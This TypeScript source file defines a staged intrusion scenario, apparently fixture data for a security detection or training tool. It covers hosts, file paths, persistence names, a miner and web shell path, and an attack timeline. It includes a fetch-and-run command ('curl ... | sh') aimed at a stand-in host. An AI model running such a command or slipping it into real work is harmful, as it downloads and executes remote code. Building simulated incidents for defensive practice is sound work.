import { hashesOf } from './random.ts'

/** The staged intrusion: every source tells the same story with the same names, hashes, addresses and times. */
export const story = {
  loader: { ip: '203.0.113.66', name: 'cdn-sync.example.com' },
  store: { ip: '203.0.113.90', name: 'storage-eu.example.com' },
  mail: 'Invoice_4471.docm',
  dll: 'C:\\ProgramData\\OneSync\\syncsvc.dll',
  dump: 'C:\\ProgramData\\OneSync\\l.dmp',
  task: '\\OneSync Update Check',
  service: 'OneSyncHelper',
  serviceExe: 'C:\\Windows\\OneSyncHelper.exe',
  rclone: 'C:\\PerfLogs\\rclone.exe',
  account: 'svc_backup',
  miner: '/dev/shm/.x/kworkerd',
  webShell: '/var/www/html/uploads/shell.php',
  key: 'AAAAC3NzaC1lZDI1NTE5AAAAIDemoKeyOfTheIntruderNotUsableAnywhere0000',
  keyComment: 'ops@kali',
  fetch: 'curl -fsS http://cdn-sync.example.com/x.sh | sh',
} as const

export const storyHashes = {
  dll: hashesOf(story.dll),
  service: hashesOf(story.serviceExe),
  rclone: hashesOf(story.rclone),
  miner: hashesOf(story.miner),
}

/** Who plays which part. */
export const patientZero = 'nwc-ws-07'
export const secondStation = 'nwc-ws-12'
export const fileServer = 'nwc-fs-01'
export const domainController = 'nwc-dc-01'
export const webServer = 'hbr-web-02'
export const databaseServer = 'hbr-db-01'

const minute = 60_000
/** Minutes after the mail was opened, two days and five hours before `now`. */
export const steps = {
  opened: 0,
  download: 1,
  loaded: 2,
  task: 4,
  discovery: 19,
  dump: 47,
  failed: 62,
  lateral: 71,
  service: 72,
  second: 90,
  collect: 180,
  exfil: 205,
  webShell: -900,
  miner: -880,
  hop: -700,
} as const

export const at = (now: number, step: keyof typeof steps, seconds = 0) =>
  now - 53 * 60 * minute + steps[step] * minute + seconds * 1000
